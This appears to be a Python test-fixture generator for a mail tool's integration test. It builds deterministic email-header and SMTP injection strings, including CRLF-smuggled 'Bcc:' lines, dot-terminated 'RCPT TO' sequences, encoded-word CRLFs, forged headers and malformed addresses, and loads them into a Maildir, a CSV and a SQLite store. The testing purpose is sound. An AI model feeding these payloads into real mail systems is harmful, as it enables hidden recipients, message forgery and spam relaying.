#!/usr/bin/python3
"""Hostile strings where mail puts them, for tests/integration/injection.sh
(issue 7: no header or SMTP command injected through a nudge).

    mkhostile.py --seed S --count N --imap M --now EPOCH
                 [--maildir DIR [--uid UID --gid GID]] [--csv FILE]
                 [--store DB] [--json FILE]

The same seed and counts always give the same N strings: CR, LF, CRLF,
NUL, U+2028, U+2029, U+0085 and other controls, 2 KB lines, RFC 2047
encoded words that decode to CRLF, fake "Bcc:" headers and
"\\r\\n.\\r\\nRCPT TO:" payloads, header-looking text, over-long and broken
addresses. Each carries a marker "HxNNNNNx" (its index) near its start, so
a checker can tell which ones came back in the mail merci sent.

The strings are spent in this order:
  --maildir  the first 3*M: M messages (Maildir, INBOX and .Sent) dated
             before --now: introductions (hostile From and Cc display names
             and Subject; a thank-you nudge) and messages the owner sent that
             nobody answered (hostile To display name and Subject; a
             follow-up nudge), the strings as raw UTF-8 or RFC 2047 words;
  --csv      the next 40% of the rest: an Outlook CSV export, one contact per
             string as its name (and a valid address), for `merci import`;
  --store    the remainder, raw into an existing store (as a store written by
             anything could hold them): contacts named by one string with an
             address made of the next; then one received referral, dated 5
             days before --now, per imported or stored contact (from it, to
             the next one), so that every one of them gets a thank-you nudge.
--json writes {"strings": N, "imap": 3*M, "csv": C, "store": S, "reach":
[markers of the imported and stored names: each must come back in a nudge],
"reach_imap": [markers of the names of the mail's nudges: merci may refuse
some as names]}.
"""
import argparse
import base64
import email.utils
import json
import os
import random
import sqlite3

OWNER = "Camille Roy <camille@example.org>"
DAY = 86400

# Pieces of hostile text; a string is a few of them.
BREAKS = ["\r\n", "\n", "\r", "\x00", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c",
          "\x1b[31m", "\x7f", "\t", "\r\n\r\n", "\n.\n", "\r\n.\r\n", "\x08", "\u009b"]
PAYLOADS = [
    "\r\nBcc: attacker@evil.example",
    "\nBcc: attacker@evil.example",
    "\rBcc: attacker@evil.example",
    "\r\n.\r\nMAIL FROM:<attacker@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA\r\n",
    "\r\n.\r\nRCPT TO:<victim@evil.example>\r\n",
    "\n.\nQUIT\n",
    "\r\nSubject: injected\r\n\r\nbody of an injected message",
    "\r\nContent-Type: text/html\r\n\r\n<script>x</script>",
    "\r\nTo: victim@evil.example\r\nX-Injected: yes",
    "\u2028Bcc: attacker@evil.example\u2029",
    "\u0085Bcc: attacker@evil.example",
    "\x00\r\nBcc: attacker@evil.example",
    "=?UTF-8?Q?a=0D=0ABcc:_attacker@evil.example?=",
    "=?UTF-8?B?" + base64.b64encode(b"\r\nBcc: attacker@evil.example\r\n").decode() + "?=",
    "=?ISO-8859-1?Q?=0D=0AX-Injected:_yes?=",
    "=?UTF-8?Q?=E2=80=A8Bcc:_a@evil.example?=",
    "=?utf-8?b?AA0K?=",
    "Bcc: attacker@evil.example",
    "X-Merci-Nudge: digest 999",
    "Message-ID: <forged@evil.example>",
    "From: \"merci\" <camille@example.org>",
    "MIME-Version: 1.0",
    "%0d%0aBcc:%20attacker@evil.example",
    "\\r\\nBcc: literal@evil.example",
]
WORDS = ["Amélie", "Jean-Pierre", "Tremblay", "O'Brien", "\"quoted\"", "back\\slash",
         "<angle@brackets>", "a, b; c:", "@", "=?", "?=", "=", "From ", ".", "..", "_",
         "Ünïcödé", "日本語", "😀", "\u202eRTL", "\u200b", "\ufeff", "\u00a0", "–", "€"]


def marker(i):
    return "Hx%05dx" % i


def long_piece(rng):
    k = rng.randrange(6)
    if k == 0:
        return "A" * rng.randint(1000, 2100)                     # one 2 KB word
    if k == 1:
        return "é" * rng.randint(500, 1050)                      # 2 KB of 2-byte chars
    if k == 2:
        return " ".join("mot%d" % j for j in range(rng.randint(150, 300)))
    if k == 3:
        return "=?UTF-8?B?" + "QUJD" * rng.randint(200, 500) + "?="
    if k == 4:
        return ("x" * 990) + "\r\n" + ("y" * 990)
    return "😀" * rng.randint(250, 520)                          # 4-byte chars


def edge_piece(rng):
    """Lengths around mailbuild's limits: a plain word of 60 (the longest
    it folds as is), an encoded word of 62, 78 columns."""
    k = rng.randrange(5)
    if k == 0:
        return "w" * rng.randint(55, 80)
    if k == 1:
        return "é" * rng.randint(15, 45)
    if k == 2:
        return " ".join("x" * rng.randint(1, 70) for _ in range(rng.randint(2, 6)))
    if k == 3:
        return "=?" + "a" * rng.randint(50, 70) + "?="
    return "a" * rng.randint(55, 65) + "\u00e9" + " " * rng.randint(1, 3)


def hostile(rng, i):
    """String i: its marker near the start (after at most one break), then
    pieces. A NUL before the marker would hide it from C, so none there."""
    parts = []
    if rng.random() < 0.2:
        parts.append(rng.choice([b for b in BREAKS if b != "\x00"]))
    parts.append(marker(i))
    for _ in range(rng.randint(1, 6)):
        r = rng.random()
        if r < 0.35:
            parts.append(rng.choice(PAYLOADS))
        elif r < 0.6:
            parts.append(rng.choice(BREAKS))
        elif r < 0.94:
            parts.append(rng.choice(WORDS))
        elif r < 0.97:
            parts.append(edge_piece(rng))
        else:
            parts.append(long_piece(rng))
        if rng.random() < 0.5:
            parts.append(rng.choice([" ", "  ", "", "\t "]))
    return "".join(parts)


def hostile_addr(rng, i, s):
    """An address-shaped hostile string (unique: it holds its marker)."""
    m = marker(i)
    k = rng.randrange(8)
    if k == 0:
        return m + "l" * rng.randint(250, 2100) + "@example.net"
    if k == 1:
        return m + "@example.net\r\nBcc: attacker@evil.example"
    if k == 2:
        return m + "@example.net>\r\n.\r\nRCPT TO:<victim@evil.example>"
    if k == 3:
        return "\"" + m + "\r\n\"@example.net"
    if k == 4:
        return m + "@" + "d" * rng.randint(300, 2100) + ".example"
    if k == 5:
        return m + "@example.net\u2028X-Injected: yes"
    if k == 6:
        return m + "@exa\x00mple.net"
    return s


def strings(seed, count):
    rng = random.Random(seed)
    out = []
    for i in range(count):
        s = hostile(rng, i)
        out.append(s)
    return out


# ---- mail ----

def enc_words(s):
    """s as RFC 2047 B words of at most 75 chars, never splitting a UTF-8
    sequence, folded one per line: carries CR, LF and NUL."""
    words, cur = [], b""
    for ch in s:
        b = ch.encode("utf-8", "surrogatepass")
        if len(base64.b64encode(cur + b)) > 75 - 12:
            words.append(cur)
            cur = b""
        cur += b
    if cur:
        words.append(cur)
    return "\n ".join("=?UTF-8?B?%s?=" % base64.b64encode(w).decode() for w in words)


def fold_raw(s):
    """s as raw UTF-8, folded at spaces (a word may stay longer than 998)."""
    out, line = [], ""
    for w in s.split(" "):
        if line and len(line) + 1 + len(w) > 76:
            out.append(line)
            line = w
        else:
            line = w if not line else line + " " + w
    out.append(line)
    return "\n ".join(out)


def has_control(s):
    return any(ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f for c in s)


def phrase(s, rng):
    """A display name: encoded words when it holds a control (a raw one
    would end the header), else raw UTF-8 in a quoted string or bare."""
    if has_control(s) or rng.random() < 0.3:
        return enc_words(s)
    return fold_raw('"%s"' % s.replace("\\", "\\\\").replace('"', '\\"'))


def text(s, rng):
    if has_control(s) or rng.random() < 0.3:
        return enc_words(s)
    return fold_raw(s)


def write_msg(folder, name, raw, uid, gid):
    tmp = os.path.join(folder, "tmp", name)
    with open(tmp, "wb") as f:
        f.write(raw.encode("utf-8", "surrogatepass"))
    if uid is not None:
        os.chown(tmp, uid, gid)
    os.rename(tmp, os.path.join(folder, "new", name))


def maildir(a, v, rng):
    """Message k uses strings 3k, 3k+1, 3k+2; even k an introduction, odd k
    a message the owner sent. Returns the markers a nudge must show."""
    reach = []
    for k in range(a.imap):
        s1, s2, s3 = v[3 * k], v[3 * k + 1], v[3 * k + 2]
        mid = "<hostile-%05d@example.org>" % k
        if k % 2 == 0:
            when = a.now - 5 * DAY
            head = ("From: %s <ref%d@example.net>\nTo: %s\nCc: %s <client%d@example.com>\n"
                    "Subject: %s\n" % (phrase(s1, rng), k, OWNER, phrase(s2, rng), k,
                                       text(s3, rng)))
            body = ("Bonjour Camille,\n\nJe te présente Client %d, directeur chez Boréal. "
                    "Il cherche une consultante pour un mandat.\n\nRéférent %d\n" % (k, k))
            folder = a.maildir
            reach.append(marker(3 * k))         # the referrer: name of the nudge
        else:
            when = a.now - 6 * DAY
            head = ("From: %s\nTo: %s <prospect%d@example.com>\nSubject: %s\n"
                    % (OWNER, phrase(s1, rng), k, text(s3, rng)))
            body = "Bonjour, voici mon offre de services (%d). Qu'en pensez-vous ?\n" % k
            folder = os.path.join(a.maildir, ".Sent")
            reach.append(marker(3 * k))         # the contact: name of the nudge
        raw = ("Date: %s\n%sMessage-ID: %s\nMIME-Version: 1.0\n"
               "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n%s"
               % (email.utils.formatdate(when), head, mid, body))
        write_msg(folder, "%d.M%dP0.hostile" % (when, k), raw, a.uid, a.gid)
    return reach


# ---- the cheap path ----

def csv_field(s):
    return '"%s"' % s.replace('"', '""')


def write_csv(path, v, first, n):
    """Outlook's English layout; every row has a valid, unique address."""
    with open(path, "w", encoding="utf-8", errors="surrogatepass", newline="") as f:
        f.write("First Name,Last Name,E-mail Address,Notes\r\n")
        for i in range(first, first + n):
            f.write("%s,,imp%05d@example.net,%s\r\n" % (csv_field(v[i]), i, csv_field(v[i])))


def store(a, v, rng, csv_first, csv_n, st_first):
    db = sqlite3.connect(a.store)
    db.execute("PRAGMA foreign_keys = ON")
    ids = []
    for i in range(csv_first, csv_first + csv_n):
        row = db.execute("SELECT contact_id FROM address WHERE email = ?",
                         ("imp%05d@example.net" % i,)).fetchone()
        if row and row[0]:
            ids.append(row[0])
    imported = len(ids)
    created = a.now - 30 * DAY
    for i in range(st_first, len(v) - 1, 2):
        cur = db.execute("INSERT INTO contact (name, created_at) VALUES (?, ?)", (v[i], created))
        cid = cur.lastrowid
        addr = hostile_addr(rng, i + 1, v[i + 1])
        db.execute("INSERT INTO address (email, name, contact_id, first_seen) VALUES (?, ?, ?, ?)",
                   (addr, v[i], cid, created))
        ids.append(cid)
    date = a.now - 5 * DAY
    for j, cid in enumerate(ids):
        to = ids[(j + 1) % len(ids)]
        db.execute("INSERT INTO referral (kind, direction, from_contact, to_contact, date,"
                   " evidence, created_at) VALUES ('manual', 'received', ?, ?, ?, 'hostile', ?)",
                   (cid, to, date, date))
    db.commit()
    db.close()
    return imported, len(ids) - imported


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--imap", type=int, default=200)
    ap.add_argument("--now", type=int, required=True)
    ap.add_argument("--maildir")
    ap.add_argument("--uid", type=int)
    ap.add_argument("--gid", type=int)
    ap.add_argument("--csv")
    ap.add_argument("--store")
    ap.add_argument("--json")
    a = ap.parse_args()
    if 3 * a.imap > a.count:
        ap.error("--count must be at least 3 * --imap")
    v = strings(a.seed, a.count)
    # Separate generators per use, so each part is the same whichever ran.
    imap_n = 3 * a.imap
    csv_first, csv_n = imap_n, (a.count - imap_n) * 2 // 5
    st_first = csv_first + csv_n
    reach = []
    if a.maildir:
        reach += maildir(a, v, random.Random(a.seed + 1))
    if a.csv:
        write_csv(a.csv, v, csv_first, csv_n)
    if a.store:
        imported, stored = store(a, v, random.Random(a.seed + 2), csv_first, csv_n, st_first)
        print("mkhostile: %d imported contacts and %d stored ones get a referral"
              % (imported, stored))
    if a.json:
        cheap = list(range(csv_first, st_first)) + list(range(st_first, a.count - 1, 2))
        with open(a.json, "w") as f:
            json.dump({"strings": a.count, "imap": imap_n, "csv": csv_n,
                       "store": a.count - st_first, "reach_imap": reach,
                       "reach": [marker(i) for i in cheap]}, f)


if __name__ == "__main__":
    main()
